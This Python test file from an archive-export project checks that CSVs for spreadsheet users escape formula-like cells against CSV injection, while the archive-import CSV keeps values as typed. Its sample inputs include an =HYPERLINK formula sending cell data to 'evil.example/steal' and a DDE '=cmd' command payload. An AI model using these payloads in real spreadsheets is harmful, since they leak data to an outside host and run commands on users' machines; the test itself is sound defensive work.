"""The CSVs people open in Excel or WPS hold no formula: a string starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading single quote (OWASP's rule against CSV
injection), numbers and other text stay as they are — the JPG delivery's page index (a title
typed as ``=HYPERLINK(…)``) and the handover bag's records alike. The 数据挂接 CSV, read by the
client's archive system, keeps its values exactly."""

from __future__ import annotations

import csv
import io

from dangan.domain.catalogue import CatalogueSchema
from dangan.export.csv_text import csv_for_people, text_cell
from dangan.export.jpgform import IndexedPage, page_index_csv
from dangan.export.linkdata import LinkFile, LinkItem, LinkVolume, to_csv

FORMULAS = ('=HYPERLINK("http://evil.example/steal?"&B5,"详情")', "=1+1", "@SUM(A1)",
            "+1+1", "-1+1", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")
PLAIN = ("1997-民-0014-0025", "起诉状", "", "第3页 = 第4页", "'=1+1", "#N/A", "2026-11-27 11:41:36")


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # Excel opens the Chinese headers right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_text_cell_quotes_what_would_be_a_formula() -> None:
    for value in FORMULAS:
        assert text_cell(value) == "'" + value
    for value in PLAIN:
        assert text_cell(value) == value
    for number in (-1, 3, 2.5, None):  # numbers stay numbers
        assert text_cell(number) == number


def test_csv_for_people_quotes_headers_and_cells() -> None:
    rows = _rows(csv_for_people(["档号", "=header"], [[v, -3] for v in FORMULAS]))
    assert rows[0] == ["档号", "'=header"]
    assert rows[1:] == [["'" + v, "-3"] for v in FORMULAS]


def test_page_index_titles_are_text() -> None:
    pages = [IndexedPage("A-1", n + 1, str(n + 1), "1", title, f"A-1-{n + 1:04d}.jpg", "0" * 64)
             for n, title in enumerate((*FORMULAS, *PLAIN))]
    rows = _rows(page_index_csv(pages))
    assert rows[0] == ["档号", "图像序号", "页号", "件号", "题名", "文件名", "SHA-256"]
    assert [r[4] for r in rows[1:]] == [*("'" + v for v in FORMULAS), *PLAIN]
    assert rows[1][:4] == ["A-1", "1", "1", "1"]


def test_link_data_csv_keeps_values_exactly() -> None:
    """数据挂接 is imported by the client's archive system: its titles arrive as typed."""
    schema = CatalogueSchema(record_fields=("title",), entry_fields=("seq", "title", "remarks"))
    item = LinkItem(1, 1, 2, {"title": FORMULAS[0], "remarks": FORMULAS[1]},
                    [LinkFile("a/b.pdf", "pdf", 10, "0" * 64)])
    tables = to_csv(schema, [LinkVolume("A-1", {"title": "@SUM(A1)"}, "a", [item])])
    assert "@SUM(A1)" in _rows(tables["案卷"])[1]
    assert {FORMULAS[0], FORMULAS[1]} <= set(_rows(tables["卷内"])[1])
